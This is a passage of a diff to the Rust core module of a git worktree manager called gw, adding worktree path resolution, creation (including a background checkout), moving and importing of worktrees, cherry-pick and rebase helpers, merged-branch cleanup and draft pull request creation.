@@ -1,9 +1,22 @@
-use crate::cache_db::CacheDB;
-use crate::models::{HealthReport, WorktreeInfo};
-use crate::{gh_ops, git_ops};
+use crate::cache_db::{now_ts, CacheDB};
+use crate::errors::GwError;
+use crate::forge::{self, Forge, ForgeError};
+use crate::models::{
+    BackgroundCheckout, BranchComparison, BrokenWorktreeLink, CommitSummary, HealthReport,
+    OrphanAction, OrphanedWorktree, ParsedWorktree, PathIssueKind, Preset, PullStrategy, RepairFix,
+    RepairPlan, RepoLayout, UnrecoverableCode, UnrecoverableIssue, WorktreeBackup, WorktreeDetails,
+    WorktreeFilter, WorktreeInfo, WorktreePathIssue, WorktreeSummary,
+};
+use crate::{git_ops, hooks, logging, review, settings, tags};
 use anyhow::{anyhow, Result};
+use sha1::{Digest, Sha1};
 use std::collections::{HashMap, HashSet};
+use std::io;
 use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use std::sync::mpsc;
+use std::thread;
 
 pub fn make_cache_key(branch: &str, head: &str) -> String {
     if !branch.is_empty() && branch != "(detached)" {
@@ -13,13 +26,1334 @@ pub fn make_cache_key(branch: &str, head: &str) -> String {
     }
 }
 
+const WINDOWS_RESERVED_NAMES: [&str; 22] = [
+    "CON", "PRN", "AUX", "NUL", "COM1", "COM2", "COM3", "COM4", "COM5", "COM6", "COM7", "COM8",
+    "COM9", "LPT1", "LPT2", "LPT3", "LPT4", "LPT5", "LPT6", "LPT7", "LPT8", "LPT9",
+];
+
+/// Location of the worktree for `branch`. Slashed branches map to nested
+/// directories, so `feat/login` lives at `<repo_root>/feat/login`, unless a
+/// different directory was recorded when the worktree was created or moved
+/// (see [`new_worktree_path`]). Only reads the cache.
+pub fn worktree_path_for_branch(repo_root: &Path, branch: &str) -> PathBuf {
+    let base = worktrees_dir(repo_root);
+    let recorded = CacheDB::open(repo_root)
+        .ok()
+        .and_then(|db| db.get_branch_path(branch).ok().flatten());
+    match recorded {
+        Some(recorded) => base.join(recorded),
+        None => base.join(portable_branch_path(branch)),
+    }
+}
+
+/// Path a worktree of `branch` gets when it is created or moved into place,
+/// given the current `worktrees`.
+///
+/// Branch names that aren't usable as paths everywhere (Windows device names,
+/// characters Windows rejects, invisible unicode) are sanitized, and a hash
+/// suffix is added when the result would clash with another worktree on a
+/// case-insensitive filesystem. Nothing is written; once the worktree is
+/// there, [`record_worktree_path`] keeps the branch resolving to it.
+pub fn new_worktree_path(repo_root: &Path, branch: &str, worktrees: &[ParsedWorktree]) -> PathBuf {
+    let base = worktrees_dir(repo_root);
+    let db = CacheDB::open(repo_root).ok();
+    if let Some(recorded) = db
+        .as_ref()
+        .and_then(|db| db.get_branch_path(branch).ok().flatten())
+    {
+        return base.join(recorded);
+    }
+
+    let mut rel = portable_branch_path(branch);
+    if worktree_path_taken(&base, db.as_ref(), worktrees, branch, &rel) {
+        let name = rel
+            .file_name()
+            .map(|name| name.to_string_lossy().to_string())
+            .unwrap_or_default();
+        rel.set_file_name(format!("{name}-{}", short_hash(branch)));
+    }
+    base.join(rel)
+}
+
+/// Records that the worktree of `branch` now lives at `path`, if that
+/// deviates from the branch name, so [`worktree_path_for_branch`] finds it.
+/// Best effort.
+pub fn record_worktree_path(repo_root: &Path, branch: &str, path: &Path) {
+    if git_ops::dry_run() {
+        return;
+    }
+    let Ok(rel) = path.strip_prefix(worktrees_dir(repo_root)) else {
+        return;
+    };
+    let rel_s = rel_path_string(rel);
+    if rel_s == branch {
+        return;
+    }
+    if let Ok(db) = CacheDB::open(repo_root) {
+        let _ = db.set_branch_path(branch, &rel_s);
+    }
+}
+
+/// Directory that holds the branch worktrees: the repo root itself in the
+/// bare layout, or the configured `worktreesDir` in the hub layout. Broken
+/// settings fall back to the repo root; `health_check` reports them.
+pub fn worktrees_dir(repo_root: &Path) -> PathBuf {
+    match settings::load_layout(repo_root) {
+        Ok(RepoLayout::Hub { worktrees_dir }) => worktrees_dir,
+        _ => repo_root.to_path_buf(),
+    }
+}
+
+/// Whether `item` lives somewhere other than `<worktrees_dir>/<branch>` (or
+/// the repo root itself), e.g. an imported worktree or a legacy layout.
+/// Detached worktrees have no expected path and never deviate.
+pub fn path_deviates(repo_root: &Path, worktrees_dir: &Path, item: &WorktreeInfo) -> bool {
+    item.ref_name.is_some()
+        && item.path != repo_root
+        && item.path != worktrees_dir.join(portable_branch_path(&item.branch))
+}
+
+/// Removes a worktree along with any prefix directories it leaves empty.
+pub fn remove_worktree(repo_root: &Path, path: &Path) -> Result<()> {
+    git_ops::worktree_remove(repo_root, path)?;
+    git_ops::remove_empty_parents(&worktrees_dir(repo_root), path);
+    Ok(())
+}
+
+/// A second registered checkout of `branch` that gw doesn't manage: a stale
+/// registration whose directory is gone, or a checkout made outside gw
+/// (`git worktree add --force`) away from the branch's path. Operations on
+/// the branch fail confusingly while it exists.
+pub fn checked_out_elsewhere(repo_root: &Path, branch: &str) -> Option<PathBuf> {
+    let checkouts: Vec<PathBuf> = git_ops::parse_worktrees(Some(repo_root))
+        .ok()?
+        .into_iter()
+        .filter(|wt| wt.branch == branch)
+        .map(|wt| wt.path)
+        .collect();
+    if checkouts.len() < 2 {
+        return None;
+    }
+    let own = git_ops::canonicalize(&worktree_path_for_branch(repo_root, branch));
+    let repo_abs = git_ops::canonicalize(repo_root);
+    let stale = checkouts.iter().find(|path| !path.is_dir());
+    stale
+        .or_else(|| {
+            checkouts.iter().find(|path| {
+                let path_abs = git_ops::canonicalize(path);
+                path_abs != own && path_abs != repo_abs
+            })
+        })
+        .cloned()
+}
+
+/// Resolves a [`checked_out_elsewhere`] conflict: a registration whose
+/// directory is gone is pruned, a live checkout is moved to the branch's
+/// path if that is free, or else detached so only gw's worktree holds the
+/// branch (its files stay). Returns what was done.
+pub fn import_external_worktree(repo_root: &Path, path: &Path, branch: &str) -> Result<String> {
+    if !path.is_dir() {
+        git_ops::prune_worktrees(repo_root);
+        return Ok(format!(
+            "Pruned the stale registration of {}.",
+            display_path(repo_root, path)
+        ));
+    }
+    let worktrees = git_ops::parse_worktrees(Some(repo_root))?;
+    let target = new_worktree_path(repo_root, branch, &worktrees);
+    if git_ops::is_path_available(&target) {
+        move_worktree(repo_root, path, &target)?;
+        record_worktree_path(repo_root, branch, &target);
+        return Ok(format!(
+            "Moved {} to {}.",
+            display_path(repo_root, path),
+            display_path(repo_root, &target)
+        ));
+    }
+    git_ops::checkout_detached(path, "HEAD")?;
+    Ok(format!(
+        "Detached {}; {branch} stays checked out at {}.",
+        display_path(repo_root, path),
+        display_path(repo_root, &target)
+    ))
+}
+
+/// Error for a CLI or server operation blocked by [`checked_out_elsewhere`].
+pub fn checked_out_elsewhere_error(
+    repo_root: &Path,
+    command: &str,
+    branch: &str,
+    other: &Path,
+) -> anyhow::Error {
+    let fix = if other.is_dir() {
+        format!("git worktree remove {}", other.display())
+    } else {
+        "git worktree prune".to_string()
+    };
+    anyhow!(
+        "{command}: {branch} is also checked out at {}, a worktree gw doesn't manage; import it from the TUI or run `{fix}`",
+        display_path(repo_root, other)
+    )
+}
+
+/// Moves a worktree along with any prefix directories it leaves empty.
+pub fn move_worktree(repo_root: &Path, src: &Path, dest: &Path) -> Result<()> {
+    git_ops::worktree_move(repo_root, src, dest)?;
+    git_ops::remove_empty_parents(&worktrees_dir(repo_root), src);
+    Ok(())
+}
+
+/// Puts the detached worktree at `path` on a new `branch` at its HEAD,
+/// keeping uncommitted changes, and moves it to the branch's path unless it
+/// is the checkout at the repo root.
+pub fn adopt_detached_worktree(repo_root: &Path, path: &Path, branch: &str) -> Result<()> {
+    let worktrees = git_ops::parse_worktrees(Some(repo_root))?;
+    let target = new_worktree_path(repo_root, branch, &worktrees);
+    let moves = path != repo_root && git_ops::canonicalize(path) != git_ops::canonicalize(&target);
+    if moves && !git_ops::is_path_available(&target) {
+        return Err(anyhow!("{} already exists", target.display()));
+    }
+    let head = git_ops::worktree_head_commit(path);
+    git_ops::switch_create(path, branch)?;
+    if let Some(head) = head {
+        carry_worktree_note(repo_root, &make_cache_key("", &head), branch);
+    }
+    if moves {
+        move_worktree(repo_root, path, &target)?;
+        record_worktree_path(repo_root, branch, &target);
+    }
+    Ok(())
+}
+
+/// Checks that `branch` can be created and returns the worktree path it will
+/// get.
+pub fn new_worktree_target(repo_root: &Path, branch: &str) -> Result<PathBuf> {
+    let worktrees = git_ops::parse_worktrees(Some(repo_root))?;
+    check_new_worktree(repo_root, branch, &worktrees)
+}
+
+/// [`new_worktree_target`] next to the already listed `worktrees`.
+fn check_new_worktree(
+    repo_root: &Path,
+    branch: &str,
+    worktrees: &[ParsedWorktree],
+) -> Result<PathBuf> {
+    if !git_ops::is_valid_branch_name(repo_root, branch) {
+        return Err(anyhow!("invalid branch name `{branch}`"));
+    }
+    if git_ops::branch_exists(repo_root, branch) {
+        return Err(GwError::BranchExists {
+            branch: branch.to_string(),
+        }
+        .into());
+    }
+    let path = new_worktree_path(repo_root, branch, worktrees);
+    if !git_ops::is_path_available(&path) {
+        return Err(anyhow!("{} already exists", path.display()));
+    }
+    Ok(path)
+}
+
+/// Creates `branch` with its worktree at `path` and runs the post-creation
+/// hooks. The branch tracks origin's branch of the same name if there is one
+/// (as of the last fetch, or asked of origin with `check_remote`); otherwise
+/// it starts from `base_branch`, pulled first when `pull_before` is given
+/// (its worktree). Returns a reminder if direnv or devenv still need setting
+/// up in the new worktree.
+pub fn create_worktree(
+    repo_root: &Path,
+    path: &Path,
+    branch: &str,
+    base_branch: &str,
+    pull_before: Option<&Path>,
+    check_remote: bool,
+) -> Result<Option<String>> {
+    add_branch_worktree(
+        repo_root,
+        path,
+        branch,
+        base_branch,
+        pull_before,
+        check_remote,
+        true,
+    )?;
+    hooks::run_post_worktree_creation_hooks(repo_root, Some(path))?;
+    Ok(hooks::direnv_reminder(repo_root, path))
+}
+
+/// Creates `branch` like [`create_worktree`], but only registers the
+/// worktree so its path can be used right away. A `gw` process left running
+/// in the background checks out the files and then runs the post-creation
+/// hooks; [`background_checkout`] reports how far it got.
+pub fn create_worktree_fast(
+    repo_root: &Path,
+    path: &Path,
+    branch: &str,
+    base_branch: &str,
+    pull_before: Option<&Path>,
+    check_remote: bool,
+) -> Result<()> {
+    add_branch_worktree(
+        repo_root,
+        path,
+        branch,
+        base_branch,
+        pull_before,
+        check_remote,
+        false,
+    )?;
+    start_background_checkout(repo_root, path)
+}
+
+fn add_branch_worktree(
+    repo_root: &Path,
+    path: &Path,
+    branch: &str,
+    base_branch: &str,
+    pull_before: Option<&Path>,
+    check_remote: bool,
+    checkout: bool,
+) -> Result<()> {
+    if let Some(base_path) = pull_before {
+        ensure_no_operation_in_progress(base_branch, base_path)?;
+        git_ops::pull(base_path, settings::load_pull_strategy(repo_root)?)?;
+    }
+
+    let add = |base: Option<&str>| {
+        if checkout {
+            git_ops::worktree_add(repo_root, path, branch, base)
+        } else {
+            git_ops::worktree_add_no_checkout(repo_root, path, branch, base)
+        }
+    };
+    // The refresh's fetch keeps origin's branches known locally, so only an
+    // explicit check has to wait for the network.
+    let on_origin = if check_remote {
+        git_ops::remote_branch_exists(repo_root, branch)
+    } else {
+        git_ops::remote_tracking_branch_exists(repo_root, "origin", branch)
+    };
+    if on_origin {
+        let upstream = format!("origin/{branch}");
+        if check_remote {
+            git_ops::fetch_branch(repo_root, branch)?;
+            add(None)?;
+        } else {
+            add(Some(&upstream))?;
+        }
+        git_ops::branch_set_upstream(repo_root, branch, &upstream)?;
+    } else {
+        add(Some(base_branch))?;
+        git_ops::set_branch_base(repo_root, branch, base_branch)?;
+    }
+    record_worktree_path(repo_root, branch, path);
+    // Memos are keyed by branch name, so one left by a deleted branch of the
+    // same name would show up on the new one.
+    forget_worktree_note(repo_root, branch);
+    Ok(())
+}
+
+/// Output of a worktree's background checkout, in its admin dir. It exists
+/// until the checkout and the hooks are done.
+const BACKGROUND_CHECKOUT_LOG: &str = "gw-checkout.log";
+/// Written next to the log when the background checkout failed.
+const BACKGROUND_CHECKOUT_FAILED: &str = "gw-checkout-failed";
+
+/// Starts `gw finish-checkout` for the worktree at `path` in its own process
+/// group, so it outlives the TUI and isn't stopped by Ctrl-C.
+fn start_background_checkout(repo_root: &Path, path: &Path) -> Result<()> {
+    // In a dry run the worktree was never added, so there is no admin dir.
+    if git_ops::dry_run() {
+        logging::would_run(&format!(
+            "gw finish-checkout {} (in the background)",
+            path.display()
+        ));
+        return Ok(());
+    }
+    let admin_dir = git_ops::worktree_admin_dir(path)
+        .ok_or_else(|| anyhow!("{} is not a linked worktree", path.display()))?;
+    let log_path = admin_dir.join(BACKGROUND_CHECKOUT_LOG);
+    std::fs::write(&log_path, "")?;
+    // Appending, so git's progress and gw's own error don't overwrite each
+    // other.
+    let log = std::fs::OpenOptions::new().append(true).open(&log_path)?;
+    let mut command = Command::new(std::env::current_exe()?);
+    command
+        .arg("finish-checkout")
+        .arg(path)
+        .current_dir(repo_root)
+        .stdin(Stdio::null())
+        .stdout(log.try_clone()?)
+        .stderr(log);
+    #[cfg(unix)]
+    {
+        use std::os::unix::process::CommandExt;
+        command.process_group(0);
+    }
+    let mut child = command
+        .spawn()
+        .map_err(|err| anyhow!("cannot start the background checkout: {err}"))?;
+    // Reaped here if this process is still around when it exits.
+    thread::spawn(move || child.wait());
+    Ok(())
+}
+
+/// The background half of [`create_worktree_fast`]: checks out the files of
+/// the worktree at `path` and runs the post-creation hooks. The log is
+/// removed when both succeed; otherwise it is kept along with the error.
+pub fn finish_background_checkout(repo_root: &Path, path: &Path) -> Result<()> {
+    let admin_dir = git_ops::worktree_admin_dir(path)
+        .ok_or_else(|| anyhow!("{} is not a linked worktree", path.display()))?;
+    let log_path = admin_dir.join(BACKGROUND_CHECKOUT_LOG);
+    let result = std::fs::OpenOptions::new()
+        .append(true)
+        .open(&log_path)
+        .map_err(anyhow::Error::from)
+        .and_then(|log| git_ops::checkout_files(path, log))
+        .and_then(|()| hooks::run_post_worktree_creation_hooks(repo_root, Some(path)));
+    match result {
+        Ok(()) => {
+            std::fs::remove_file(&log_path)?;
+            Ok(())
+        }
+        Err(err) => {
+            std::fs::write(admin_dir.join(BACKGROUND_CHECKOUT_FAILED), err.to_string())?;
+            Err(err)
+        }
+    }
+}
+
+/// How far the background checkout of a fast-created worktree got, or `None`
+/// if there is none.
+pub fn background_checkout(path: &Path) -> Option<BackgroundCheckout> {
+    let admin_dir = git_ops::worktree_admin_dir(path)?;
+    let log = std::fs::read(admin_dir.join(BACKGROUND_CHECKOUT_LOG)).ok()?;
+    // Progress lines are separated by carriage returns.
+    let percent = String::from_utf8_lossy(&log)
+        .rsplit(['\r', '\n'])
+        .find_map(|line| {
+            let rest = line.strip_prefix("Updating files:")?;
+            rest.split('%').next()?.trim().parse().ok()
+        })
+        .unwrap_or(0);
+    Some(BackgroundCheckout {
+        percent,
+        failed: admin_dir.join(BACKGROUND_CHECKOUT_FAILED).exists(),
+    })
+}
+
+/// Why the background checkout of the worktree at `path` failed, and where
+/// its log is.
+pub fn background_checkout_error(path: &Path) -> Option<String> {
+    let admin_dir = git_ops::worktree_admin_dir(path)?;
+    let error = std::fs::read_to_string(admin_dir.join(BACKGROUND_CHECKOUT_FAILED)).ok()?;
+    Some(format!(
+        "{}; see {}",
+        error.trim(),
+        admin_dir.join(BACKGROUND_CHECKOUT_LOG).display()
+    ))
+}
+
+/// Creates `branch` like [`create_worktree`] and moves the uncommitted
+/// changes of the worktree at `source` (untracked files included) into it
+/// through a stash, for work started on the wrong branch. If the new
+/// worktree can't be created the changes go back to `source`; if they don't
+/// apply cleanly the stash is kept and the returned note says so.
+pub fn create_worktree_with_changes(
+    repo_root: &Path,
+    source: &Path,
+    path: &Path,
+    branch: &str,
+    base_branch: &str,
+    pull_before: Option<&Path>,
+    check_remote: bool,
+) -> Result<Option<String>> {
+    if !git_ops::has_uncommitted_changes(source)? {
+        return Err(anyhow!(
+            "{} has no uncommitted changes",
+            display_path(repo_root, source)
+        ));
+    }
+    git_ops::stash_push(source, &format!("gw: moving changes to {branch}"))?;
+    let created = create_worktree(
+        repo_root,
+        path,
+        branch,
+        base_branch,
+        pull_before,
+        check_remote,
+    );
+    let reminder = match created {
+        Ok(reminder) => reminder,
+        Err(err) => {
+            if let Err(restore_err) = git_ops::stash_pop(source) {
+                return Err(anyhow!(
+                    "{err}; the changes could not be put back ({restore_err}), they are in `git stash list`"
+                ));
+            }
+            return Err(err);
+        }
+    };
+    if git_ops::stash_pop(path).is_err() {
+        return Ok(Some(format!(
+            "the changes did not apply cleanly to {branch}; resolve the conflicts there (the stash is kept, see `git stash list`)"
+        )));
+    }
+    Ok(reminder)
+}
+
+/// Cherry-picks `commits` (newest first, as listed) onto the branch checked
+/// out at `target`, oldest first. A conflict aborts the whole cherry-pick,
+/// leaving the branch as it was, and the error names the commit and files.
+pub fn cherry_pick_commits(
+    repo_root: &Path,
+    target: &Path,
+    commits: &[CommitSummary],
+) -> Result<()> {
+    if git_ops::has_uncommitted_changes(target)? {
+        return Err(anyhow!(
+            "{} has uncommitted changes; commit or stash them first",
+            display_path(repo_root, target)
+        ));
+    }
+    let shas: Vec<String> = commits
+        .iter()
+        .rev()
+        .map(|commit| commit.sha.clone())
+        .collect();
+    let Err(err) = git_ops::cherry_pick(target, &shas) else {
+        return Ok(());
+    };
+    let stopped_at = git_ops::cherry_pick_head(target);
+    let files = git_ops::conflicted_files(target);
+    if stopped_at.is_none() {
+        return Err(err);
+    }
+    git_ops::cherry_pick_abort(target)?;
+    let commit = stopped_at
+        .and_then(|sha| commits.iter().find(|commit| commit.sha == sha))
+        .map(|commit| format!("{} {}", &commit.sha[..7], commit.subject))
+        .unwrap_or_else(|| "a commit".to_string());
+    if files.is_empty() {
+        return Err(anyhow!(
+            "{commit} could not be applied ({err}); nothing was cherry-picked"
+        ));
+    }
+    Err(anyhow!(
+        "{commit} conflicts in {}; nothing was cherry-picked",
+        files.join(", ")
+    ))
+}
+
+/// Refuses to pull or push `branch` while a rebase, merge, cherry-pick or
+/// bisect is unfinished in its worktree at `path`; git's own errors for that
+/// are cryptic.
+pub fn ensure_no_operation_in_progress(branch: &str, path: &Path) -> Result<()> {
+    match git_ops::in_progress_operation(path) {
+        Some(operation) => Err(GwError::OperationInProgress {
+            branch: branch.to_string(),
+            operation,
+        }
+        .into()),
+        None => Ok(()),
+    }
+}
+
+/// Rebases the branch checked out at `path` onto its freshly fetched
+/// upstream, for a branch that has diverged from it. A conflict aborts the
+/// rebase, leaving the branch as it was, and the error names the files.
+pub fn rebase_onto_upstream(repo_root: &Path, path: &Path) -> Result<()> {
+    if git_ops::has_uncommitted_changes(path)? {
+        return Err(anyhow!(
+            "{} has uncommitted changes; commit or stash them first",
+            display_path(repo_root, path)
+        ));
+    }
+    let Err(err) = git_ops::pull(path, Some(PullStrategy::Rebase)) else {
+        return Ok(());
+    };
+    let files = git_ops::conflicted_files(path);
+    if files.is_empty() {
+        return Err(err);
+    }
+    git_ops::rebase_abort(path)?;
+    Err(anyhow!(
+        "rebasing conflicts in {}; the rebase was aborted",
+        files.join(", ")
+    ))
+}
+
+/// [`new_worktree_target`] for each branch of a batch, checked before any is
+/// created so a bad name doesn't leave the batch half done.
+pub fn new_worktree_targets(
+    repo_root: &Path,
+    branches: &[String],
+) -> Result<Vec<(String, PathBuf)>> {
+    let worktrees = git_ops::parse_worktrees(Some(repo_root))?;
+    let mut targets: Vec<(String, PathBuf)> = Vec::new();
+    for branch in branches {
+        let path = check_new_worktree(repo_root, branch, &worktrees)?;
+        if targets.iter().any(|(_, taken)| *taken == path) {
+            return Err(anyhow!(
+                "cannot create {branch}: {} is taken by another branch of the batch",
+                path.display()
+            ));
+        }
+        targets.push((branch.clone(), path));
+    }
+    Ok(targets)
+}
+
+/// [`create_worktree`] (or [`create_worktree_fast`], with `fast`) for each
+/// branch and path in turn, all from `base_branch`, which is pulled once
+/// before the first. `progress` gets each branch's index before it is
+/// created. Returns the distinct reminders.
+pub fn create_worktrees(
+    repo_root: &Path,
+    targets: &[(String, PathBuf)],
+    base_branch: &str,
+    mut pull_before: Option<&Path>,
+    fast: bool,
+    check_remote: bool,
+    progress: &mut dyn FnMut(usize, &str),
+) -> Result<Vec<String>> {
+    let mut reminders = Vec::new();
+    for (index, (branch, path)) in targets.iter().enumerate() {
+        progress(index, branch);
+        let reminder = if fast {
+            create_worktree_fast(
+                repo_root,
+                path,
+                branch,
+                base_branch,
+                pull_before.take(),
+                check_remote,
+            )?;
+            None
+        } else {
+            create_worktree(
+                repo_root,
+                path,
+                branch,
+                base_branch,
+                pull_before.take(),
+                check_remote,
+            )?
+        };
+        if let Some(reminder) = reminder.filter(|reminder| !reminders.contains(reminder)) {
+            reminders.push(reminder);
+        }
+    }
+    Ok(reminders)
+}
+
+/// Where new branches start by default, like `n` in the TUI: the default
+/// branch, together with its worktree so it can be pulled first.
+pub fn default_base(repo_root: &Path) -> Result<(String, Option<PathBuf>)> {
+    let default_branch = git_ops::get_default_branch(repo_root);
+    let default_path = git_ops::parse_worktrees(Some(repo_root))?
+        .into_iter()
+        .find(|wt| wt.branch == default_branch)
+        .map(|wt| wt.path);
+    Ok((default_branch, default_path))
+}
+
+/// Upstream, stashes, hook runs and disk usage of the worktree `item`, for
+/// the TUI's detail pane. Walking the files makes it slow for big worktrees.
+pub fn worktree_details(repo_root: &Path, item: &WorktreeInfo) -> Result<WorktreeDetails> {
+    let upstream = item
+        .ref_name
+        .as_deref()
+        .and_then(|ref_name| git_ops::get_upstream(repo_root, ref_name));
+    let stashes = match &item.ref_name {
+        Some(_) => git_ops::stash_count(&item.path, &item.branch),
+        None => 0,
+    };
+    Ok(WorktreeDetails {
+        upstream,
+        stashes,
+        hooks_configured: !hooks::get_post_worktree_creation_hooks(repo_root)?.is_empty(),
+        hooks_ran_ts: CacheDB::open(repo_root)?.get_hook_run(&item.path)?,
+        disk_usage: disk_usage(&item.path),
+    })
+}
+
+/// Total size of the files under `path`, not following symlinks.
+fn disk_usage(path: &Path) -> u64 {
+    let Ok(entries) = std::fs::read_dir(path) else {
+        return 0;
+    };
+    entries
+        .flatten()
+        .map(|entry| match entry.metadata() {
+            Ok(meta) if meta.is_dir() => disk_usage(&entry.path()),
+            Ok(meta) => meta.len(),
+            Err(_) => 0,
+        })
+        .sum()
+}
+
+/// Most commits listed on each side of a branch comparison.
+pub const COMPARE_LIMIT: usize = 100;
+
+/// The commits only on either of `branch` and `other`, and the files
+/// `branch` changed since they forked.
+pub fn compare_branches(repo_root: &Path, branch: &str, other: &str) -> Result<BranchComparison> {
+    Ok(BranchComparison {
+        branch: branch.to_string(),
+        other: other.to_string(),
+        only_branch: git_ops::log_commits(repo_root, &format!("{other}..{branch}"), COMPARE_LIMIT)?,
+        only_other: git_ops::log_commits(repo_root, &format!("{branch}..{other}"), COMPARE_LIMIT)?,
+        stat: git_ops::diff_stat(repo_root, other, branch)?,
+    })
+}
+
+/// What a branch is compared with unless told otherwise: the base it was
+/// created from, its PR's base, or what BEHIND|AHEAD counts against.
+pub fn compare_base(repo_root: &Path, item: &WorktreeInfo, default_branch: &str) -> Result<String> {
+    match git_ops::get_branch_base(repo_root, &item.branch).or_else(|| item.pr_base.clone()) {
+        Some(base) => Ok(base),
+        None => ahead_behind_base(repo_root, default_branch),
+    }
+}
+
+const SECONDS_PER_DAY: i64 = 86_400;
+
+/// Whole days since `last_commit_ts`, or `None` if it is unknown.
+pub fn branch_age_days(item: &WorktreeInfo) -> Option<u64> {
+    if item.last_commit_ts <= 0 {
+        return None;
+    }
+    Some(((now_ts() - item.last_commit_ts).max(0) / SECONDS_PER_DAY) as u64)
+}
+
+pub fn summarize(item: &WorktreeInfo) -> WorktreeSummary {
+    WorktreeSummary {
+        branch: item.branch.clone(),
+        path: item.path.clone(),
+        head: item.head.clone(),
+        detached: item.is_detached(),
+        last_commit_ts: item.last_commit_ts,
+        age_days: branch_age_days(item),
+        dirty: item.dirty,
+        has_upstream: item.has_upstream,
+        upstream_gone: item.upstream_gone,
+        pull: item.pull,
+        push: item.push,
+        behind: item.behind,
+        ahead: item.ahead,
+        additions: item.additions,
+        deletions: item.deletions,
+        issue: item.issue,
+        review: item.review,
+        tag: item.tag.clone(),
+        nearest_tag: item.nearest_tag.clone(),
+        description: item.description.clone(),
+        note: item.note.clone(),
+        in_progress: item.in_progress,
+        checkout: item.checkout,
+        locked: item.locked.is_some(),
+        prunable: item.prunable.is_some(),
+        pr_number: item.pr_number,
+        pr_state: item.pr_state.clone(),
+        pr_draft: item.pr_draft,
+        pr_url: item.pr_url.clone(),
+        pr_base: item.pr_base.clone(),
+        checks_state: item.checks_state.clone(),
+        checks_passed: item.checks_passed,
+        checks_total: item.checks_total,
+    }
+}
+
+/// Worktrees whose PR was merged and whose branch has nothing beyond the
+/// default branch, or whose commits all landed there in other form (squashed,
+/// rebased or cherry-picked), which also counts without PR data. Dirty
+/// worktrees and the repo root checkout are left alone.
+pub fn merged_cleanup_candidates<'a>(
+    items: &'a [WorktreeInfo],
+    repo_root: &Path,
+    default_branch: &str,
+) -> Vec<&'a WorktreeInfo> {
+    let base =
+        ahead_behind_base(repo_root, default_branch).unwrap_or_else(|_| default_branch.to_string());
+    let base_head = git_ops::resolve_commit(repo_root, &base);
+    let db = CacheDB::open(repo_root).ok();
+    let landed = |item: &WorktreeInfo| {
+        let Some(base_head) = &base_head else {
+            return false;
+        };
+        let cached = db.as_ref().and_then(|db| {
+            db.get_landed_check(&item.branch, &item.head, base_head)
+                .ok()
+                .flatten()
+        });
+        cached.unwrap_or_else(|| {
+            let landed = git_ops::changes_landed(repo_root, base_head, &item.head);
+            if let Some(db) = &db {
+                let _ = db.record_landed_check(&item.branch, &item.head, base_head, landed);
+            }
+            landed
+        })
+    };
+    items
+        .iter()
+        .filter(|item| {
+            !item.dirty
+                && !item.is_detached()
+                && item.branch != default_branch
+                && item.path != repo_root
+        })
+        .filter(|item| match item.pr_state.as_deref() {
+            Some("MERGED") => item.ahead == 0 || landed(item),
+            // Without PR data the commits decide; a branch without any has
+            // merely not started.
+            None => item.ahead > 0 && landed(item),
+            Some(_) => false,
+        })
+        .collect()
+}
+
+/// Splits a command line into arguments like a shell would, minus
+/// expansions: whitespace separates them, quotes group and backslashes
+/// escape.
+pub fn split_command_line(line: &str) -> Result<Vec<String>> {
+    let mut args = Vec::new();
+    let mut current: Option<String> = None;
+    let mut quote: Option<char> = None;
+    let mut chars = line.chars();
+    while let Some(ch) = chars.next() {
+        match (quote, ch) {
+            (Some(open), ch) if ch == open => quote = None,
+            (Some('"'), '\\') | (None, '\\') => {
+                let escaped = chars.next().ok_or_else(|| anyhow!("trailing backslash"))?;
+                current.get_or_insert_with(String::new).push(escaped);
+            }
+            (Some(_), ch) => current.get_or_insert_with(String::new).push(ch),
+            (None, '"' | '\'') => {
+                quote = Some(ch);
+                current.get_or_insert_with(String::new);
+            }
+            (None, ch) if ch.is_whitespace() => args.extend(current.take()),
+            (None, ch) => current.get_or_insert_with(String::new).push(ch),
+        }
+    }
+    if quote.is_some() {
+        return Err(anyhow!("unterminated quote"));
+    }
+    args.extend(current);
+    Ok(args)
+}
+
+/// Runs the steps of `preset` in the worktree of `branch` at `path` in
+/// order, calling `on_step` with each step's index and expanded command line
+/// before running it. Stops at the first failing step, leaving whatever it
+/// did (e.g. a conflicted rebase) in place.
+pub fn run_preset(
+    repo_root: &Path,
+    path: &Path,
+    branch: &str,
+    preset: &Preset,
+    on_step: &mut dyn FnMut(usize, &str),
+) -> Result<()> {
+    let default_branch = git_ops::get_default_branch(repo_root);
+    let base = ahead_behind_base(repo_root, &default_branch)?;
+    let total = preset.steps.len();
+    let lines: Vec<String> = preset
+        .steps
+        .iter()
+        .map(|step| {
+            step.strip_prefix("git ")
+                .unwrap_or(step)
+                .replace("{branch}", branch)
+                .replace("{default}", &default_branch)
+                .replace("{base}", &base)
+        })
+        .collect();
+    // Checked up front so a denied step doesn't leave the preset half done.
+    for line in &lines {
+        check_command_policy(&format!("git {line}"))?;
+    }
+    for (index, line) in lines.iter().enumerate() {
+        let args = split_command_line(line)?;
+        on_step(index, line);
+        if let Err(err) = git_ops::run_preset_step(path, &args) {
+            let message = format!("step {}/{total} (git {line}) failed: {err}", index + 1);
+            return Err(err.context(message));
+        }
+    }
+    Ok(())
+}
+
+/// Worktrees `gw pr create --missing` opens a draft request for: branches
+/// with commits beyond the default branch and no request yet.
+pub fn missing_request_candidates<'a>(
+    items: &'a [WorktreeInfo],
+    default_branch: &str,
+) -> Vec<&'a WorktreeInfo> {
+    items
+        .iter()
+        .filter(|item| {
+            item.pr_number.is_none()
+                && item.ahead > 0
+                && !item.is_detached()
+                && item.review.is_none()
+                && item.branch != default_branch
+        })
+        .collect()
+}
+
+/// Pushes the branch of `item`, setting its upstream if it has none, and
+/// opens a draft request for it into the default branch, titled from
+/// `template` (the `prTitleTemplate` setting). Returns the request's URL.
+pub fn open_draft_request(
+    repo_root: &Path,
+    forge: &dyn Forge,
+    item: &WorktreeInfo,
+    default_branch: &str,
+    template: &str,
+) -> Result<String> {
+    ensure_no_operation_in_progress(&item.branch, &item.path)?;
+    if item.has_upstream {
+        git_ops::push(&item.path)?;
+    } else {
+        git_ops::push_set_upstream(&item.path, &item.branch)?;
+    }
+
+    let base = ahead_behind_base(repo_root, default_branch)?;
+    let range = format!("{base}..{}", item.branch);
+    let limit = usize::try_from(item.ahead).unwrap_or(1).max(1);
+    let subject = git_ops::log_commits(repo_root, &range, limit)?
+        .pop()
+        .map(|commit| commit.subject)
+        .unwrap_or_default();
+    let title = request_title(template, &item.branch, &subject);
+    forge.create_draft(repo_root, &item.branch, default_branch, &title)
+}
+
